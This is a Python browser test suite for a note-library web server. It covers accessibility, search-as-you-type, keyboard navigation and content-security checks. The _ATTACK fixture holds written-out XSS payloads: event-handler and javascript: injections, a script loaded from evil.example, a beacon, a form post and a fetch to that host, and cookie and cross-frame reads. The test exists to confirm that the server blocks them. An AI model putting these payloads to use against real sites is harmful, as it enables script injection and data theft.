"""The pages of the whole library in a real browser: as one types, with keys, and under attack."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browsing import Guest, make_library
from tests.programs import require
from tests.site.chromium import Chromium

if TYPE_CHECKING:
    from collections.abc import Iterator

pytest.importorskip("markdown_it", reason="the extra html is not installed")

PAPER = "/page/doe2020paper/"
SHOWN = ("/", "/?q=pears", "/?q=colour:x", PAPER, "/page/hostile/", "/next/", "/tags/", "/page/no/")
_AXE = """
axe.run(document, {resultTypes: ["violations"], preload: false}).then(found =>
  JSON.stringify(found.violations.map(one => [one.id, one.help, one.nodes.map(node => node.html)])))
"""
# What a hostile page could try if the cleaning of notes had a hole.
_ATTACK = """
(async () => {
  const put = html => document.querySelector(".body").insertAdjacentHTML("beforeend", html);
  put(`<img src="x" onerror="window.hit = 'handler'">`);
  put(`<iframe id="own" src="/page/diary/"></iframe><iframe srcdoc="<script>top.hit=1</script>">`);
  put(`<object data="/page/diary/"></object><embed src="/pdf/doe2020paper.pdf">`);
  put(`<a id="js" href="javascript:window.hit='href'">x</a>`);
  const own = document.createElement("script");
  own.textContent = "window.hit = 'inline'";
  document.body.append(own);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.example/x.js";
  document.body.append(foreign);
  put(`<img src="https://evil.example/beacon.png">`);
  put(`<form id="out" action="https://evil.example/"><input name="q" value="secret"></form>`);
  document.getElementById("js").click();
  document.getElementById("out").submit();
  await new Promise(done => setTimeout(done, 300));
  const frame = document.getElementById("own");
  let inside = "";
  try { inside = frame.contentDocument ? frame.contentDocument.body.innerText : ""; } catch { }
  const sent = await fetch("https://evil.example/").then(() => "sent", () => "");
  return JSON.stringify([window.hit ?? "", document.cookie, inside, sent, location.pathname]);
})()
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("browsed") / "library"
    make_library(root)
    return root


@pytest.fixture(scope="module")
def guest(folder: Path) -> Iterator[Guest]:
    environ = {**os.environ, "PAPERNOTES_STATE_DIR": str(folder.parent / "state")}
    process = subprocess.Popen(
        [sys.executable, "-m", "papernotes", "serve", "--library", "--port", "0"],
        cwd=folder,
        env=environ,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    yield Guest(process)
    process.kill()
    process.communicate()


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory, guest: Guest) -> Iterator[Chromium]:
    with Chromium(tmp_path_factory.mktemp("profile")) as browser:
        browser.open(guest.address)
        assert browser.run("location.search + location.pathname") == "/"
        yield browser


def url(guest: Guest, path: str) -> str:
    return f"http://127.0.0.1:{guest.port}{path}"


def until(chromium: Chromium, script: str) -> None:
    """Wait until a script says something true; it may not for a while, but not for long."""
    end = time.monotonic() + 30
    while not chromium.run(script):
        assert time.monotonic() < end, script
        time.sleep(0.05)


@pytest.mark.parametrize(
    ("is_dark", "width"),
    [(False, 1280), (True, 1280), (False, 390)],
    ids=["light", "dark", "small"],
)
def test_axe_finds_nothing_and_nothing_is_asked_for_elsewhere(
    guest: Guest, chromium: Chromium, is_dark: bool, width: int
) -> None:
    axe = Path(require("axe-core/axe.min.js")).read_text()
    for page in SHOWN:
        loaded = chromium.open(url(guest, page), is_dark=is_dark, width=width)
        told = [text for text in loaded.complaints if "404" not in text or page != "/page/no/"]
        assert not [one for one in loaded.requests if not one.startswith(url(guest, "/"))]
        assert (page, told) == (page, [])
        assert chromium.run("document.documentElement.scrollWidth") <= width, page
        chromium.run(f"{axe}; 0")
        assert (page, json.loads(chromium.run(_AXE))) == (page, [])


def test_a_search_is_answered_as_it_is_typed_and_keys_go_through_what_it_finds(
    guest: Guest, chromium: Chromium
) -> None:
    chromium.open(url(guest, "/"))
    chromium.press("/")
    assert chromium.run("document.activeElement.id") == "p:query"
    titles = "[...document.querySelectorAll('.entry-title')].map(one => one.innerText).join('|')"
    chromium.write("cinn")
    until(chromium, f"{titles} === 'Tart & Pie'")
    assert chromium.run("document.querySelector('.place mark').innerText") == "Cinnamon"
    assert chromium.run("location.search") == "?q=cinn&typed=1"
    chromium.write(" colour:x")
    until(chromium, "document.querySelector('.fault mark')?.innerText === 'colour:x'")
    chromium.run("document.getElementById('p:query').value = ''")
    chromium.write("pears")
    until(chromium, f"{titles}.split('|').length === 2")
    until(chromium, "document.querySelector('#p\\\\:facets').innerText.includes('paper')")
    chromium.press("Escape")
    at = "document.activeElement.innerText"
    for key, number in (("j", 0), ("j", 1), ("j", 1), ("k", 0)):
        chromium.press(key)
        assert chromium.run(at) == chromium.run(titles).split("|")[number]
    assert chromium.run("document.getElementById('p:query').value") == "pears"


def test_a_page_reloads_when_its_note_changes(
    guest: Guest, chromium: Chromium, folder: Path
) -> None:
    chromium.open(url(guest, "/page/kitchen/tart/"))
    note = folder / "notes/kitchen/tart.md"
    note.write_text(note.read_text().replace("Butter", "Margarine"))
    until(chromium, "document.body?.innerText.includes('Margarine')")
    until(chromium, "document.querySelector('[data-copy]')?.hidden === false")


def test_what_is_like_a_paper_comes_after_the_page(guest: Guest, chromium: Chromium) -> None:
    chromium.open(url(guest, PAPER))
    until(chromium, "document.querySelector('ul[data-alike] a')?.pathname === '/page/diary/'")
    assert chromium.run("document.querySelector('[data-later]')") is None


def test_a_pdf_stands_beside_its_note(guest: Guest, chromium: Chromium) -> None:
    loaded = chromium.open(url(guest, f"{PAPER}?beside=pdf"))
    assert loaded.complaints == []
    assert url(guest, "/pdf/doe2020paper.pdf") in loaded.requests
    sides = "[...document.querySelectorAll('article, iframe')].map(one => one.offsetLeft)"
    note, pdf = chromium.run(sides)
    assert pdf > note + 300


def test_a_hostile_note_runs_nothing_reads_no_token_and_no_other_page(
    guest: Guest, chromium: Chromium
) -> None:
    loaded = chromium.open(url(guest, "/page/hostile/"))
    assert chromium.run("[window.hit ?? '', document.cookie].join('')") == ""
    assert chromium.run("document.querySelector('#bad').href") == ""
    found = json.loads(chromium.run(_ATTACK))
    assert found == ["", "", "", "", "/page/hostile/"]
    assert sum("Content Security Policy" in text for text in loaded.complaints) > 6
    token = guest.target.partition("=")[2]
    assert token not in chromium.run("document.documentElement.outerHTML + document.referrer")


def test_a_page_of_another_site_gets_nothing(
    guest: Guest, chromium: Chromium, folder: Path
) -> None:
    page = folder / "evil.html"
    page.write_text(
        f'<iframe src="{url(guest, "/page/diary/")}"></iframe><script src="{url(guest, PAPER)}">'
        f'</script><img src="{url(guest, "/page/doe2020paper/pear.png")}">'
    )
    chromium.open(page.as_uri())
    fetched = f"fetch('{url(guest, '/page/diary/')}', {{credentials: 'include', mode: 'no-cors'}})"
    assert chromium.run(f"{fetched}.then(got => got.text(), () => '')") == ""
    assert chromium.run("document.images[0].naturalWidth") == 0
    frames = "(() => { try { return frames[0].document.body.innerText } catch { return '' } })()"
    assert chromium.run(frames) == ""
